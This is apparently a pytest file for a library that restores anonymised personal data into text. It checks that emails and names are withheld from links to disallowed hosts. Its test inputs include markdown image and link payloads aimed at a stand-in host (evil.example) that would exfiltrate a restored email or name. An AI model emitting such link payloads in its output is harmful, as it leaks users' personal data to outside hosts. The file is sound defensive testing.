"""No value is restored into a link unless its host is allowed: the link context is read
from the raw text before each token."""

from __future__ import annotations

import pytest

from qorgan.transform.restore import NO_HOST, LinkGuard, TokenTable, link_host

TABLE = TokenTable({"<EMAIL_ADDRESS_1>": ("EMAIL_ADDRESS", "aigerim@mail.kz"),
                    "<PERSON_1>": ("PERSON", "Aigerim Serikova")})


@pytest.mark.parametrize(("before", "host"), [
    ("Write to ", None),
    ("Dear ", None),
    ("<b>Dear ", None),
    ("Hi <PERSON_1> and ", None),
    ("email: ", None),
    ("(", None),
    ("![s](https://evil.example/p.png?u=", "evil.example"),
    ("[x](http://User:pw@Host.Example:8080/a?b=", "host.example"),
    ("see //cdn.example/a?", "cdn.example"),
    ("visit www.evil.example/?q=", "www.evil.example"),
    ('<img alt="a b" src="https://img.example/i?e=', "img.example"),
    ('{"url":"https:\\/\\/evil.example\\/?u=', "evil.example"),
    ("[a b](", NO_HOST),
    ("![img](/track?u=", NO_HOST),
    ('<a href="/x?q=', NO_HOST),
    ("<img src=", NO_HOST),
    ("mailto:", NO_HOST),
    ("[m](mailto:", NO_HOST),
    ("https://", NO_HOST),
    ("https://evil.", NO_HOST),
])
def test_link_context(before: str, host: str | None) -> None:
    assert link_host(before) == host


@pytest.mark.parametrize(("text", "hosts", "mode", "expected", "withheld"), [
    ("Mail <EMAIL_ADDRESS_1> now", (), "keep", "Mail aigerim@mail.kz now", 0),
    ("![s](https://evil.example/p?u=<EMAIL_ADDRESS_1>)", (), "keep",
     "![s](https://evil.example/p?u=<EMAIL_ADDRESS_1>)", 1),
    ("![s](https://evil.example/p?u=<EMAIL_ADDRESS_1>)", (), "redact",
     "![s](https://evil.example/p?u=<EMAIL_ADDRESS>)", 1),
    ("[c](https://crm.example.kz/c?u=<EMAIL_ADDRESS_1>)", ("crm.example.kz",), "keep",
     "[c](https://crm.example.kz/c?u=aigerim@mail.kz)", 0),
    ("[c](https://a.crm.example.kz/c?u=<EMAIL_ADDRESS_1>)", ("*.example.kz",), "keep",
     "[c](https://a.crm.example.kz/c?u=aigerim@mail.kz)", 0),
    ("[c](https://example.kz.evil/c?u=<EMAIL_ADDRESS_1>)", ("*.example.kz",), "keep",
     "[c](https://example.kz.evil/c?u=<EMAIL_ADDRESS_1>)", 1),
    ("https://<EMAIL_ADDRESS_1>/x", ("crm.example.kz",), "keep",
     "https://<EMAIL_ADDRESS_1>/x", 1),
    ("<PERSON_1> wrote [here](https://evil.example/?n=<PERSON_1>)", (), "keep",
     "Aigerim Serikova wrote [here](https://evil.example/?n=<PERSON_1>)", 1),
])
def test_restore_leaves_link_tokens_alone(
    text: str, hosts: tuple[str, ...], mode: str, expected: str, withheld: int
) -> None:
    guard = LinkGuard(hosts, mode=mode)
    assert TABLE.restore(text, links=guard) == expected
    assert len(guard.withheld) == withheld
    for entity, start, end in guard.withheld:
        assert text[start:end].startswith(f"<{entity}")


def test_the_decision_reads_text_before_the_restored_piece() -> None:
    guard = LinkGuard()
    assert TABLE.restore("<EMAIL_ADDRESS_1>)", before="![s](https://evil.example/?u=",
                         links=guard) == "<EMAIL_ADDRESS_1>)"
    assert TABLE.restore("<EMAIL_ADDRESS_1>", before="Mail ", links=guard) == \
        "aigerim@mail.kz"
